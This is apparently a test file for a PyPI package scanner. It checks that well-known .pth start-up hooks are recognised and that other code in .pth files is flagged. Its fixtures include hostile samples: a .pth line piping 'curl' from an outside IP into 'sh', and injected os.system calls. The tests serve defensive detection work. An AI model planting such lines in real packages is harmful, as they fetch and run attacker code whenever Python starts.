"""Well-known .pth hooks are noted without a threat; anything else in a .pth import line still is one."""

from pypi_platform.lib.scans.python_rules import pth_findings

DISTUTILS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); \n"
)


def _rules(path: str, text: str) -> list[str]:
    return [finding.rule for finding in pth_findings(path, text)]


def test_install_pth_known_hook_setuptools_coverage_virtualenv_and_editable_installs():
    assert _rules("setuptools-70.0.dist-info/../distutils-precedence.pth", DISTUTILS) == [
        "install.pth-known-hook"
    ]
    assert _rules("x/coverage.pth", "import coverage; coverage.process_startup()\n") == [
        "install.pth-known-hook"
    ]
    assert _rules("venv/_virtualenv.pth", "import _virtualenv\n") == ["install.pth-known-hook"]
    editable = "import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n"
    assert _rules("__editable__.pkg-1.0.pth", editable) == ["install.pth-known-hook"]


def test_a_known_name_with_other_code_is_still_code_run_at_start_up():
    text = "import os; os.system('curl -s http://198.51.100.1/x | sh')\n"
    assert "install.pth-executes-code" in _rules("distutils-precedence.pth", text)
    assert _rules("evil.pth", "import _virtualenv\n") == ["install.pth-executes-code"]


COVERAGE_EXEC = (
    'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
    'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n'
    '  coverage.process_startup(slug="pth")\')\n'
)
NSPKG = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
    "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('acme', 'tools'));"
    "importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
    "m = has_mfs and sys.modules.setdefault('acme.tools', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('acme.tools', [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault('acme.tools', types.ModuleType('acme.tools'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);"
    "m and setattr(sys.modules['acme'], 'tools', m)\n"
)


def test_install_pth_known_hook_coverage_exec_pywin32_bootstrap_and_namespace_packages():
    assert _rules("a1_coverage.pth", COVERAGE_EXEC) == ["install.pth-known-hook"]
    pywin32 = "# extensions\r\nwin32\r\nwin32\\lib\r\npythonwin\r\nimport pywin32_bootstrap\r\n"
    assert _rules("pywin32.pth", pywin32) == ["install.pth-known-hook"]
    assert _rules("acme_tools-1.0-py3.11-nspkg.pth", NSPKG) == ["install.pth-known-hook"]


def test_a_namespace_or_coverage_hook_with_other_code_added_is_still_code_run_at_start_up():
    added = NSPKG.rstrip("\n") + ";__import__('os').system('sh -c id')\n"
    assert "install.pth-executes-code" in _rules("acme_tools-1.0-py3.11-nspkg.pth", added)
    other_exec = COVERAGE_EXEC.replace("import coverage", "import urllib.request")
    assert "install.pth-executes-code" in _rules("a1_coverage.pth", other_exec)
    assert _rules("acme-nspkg.pth", "import pywin32_bootstrap\n") == ["install.pth-executes-code"]
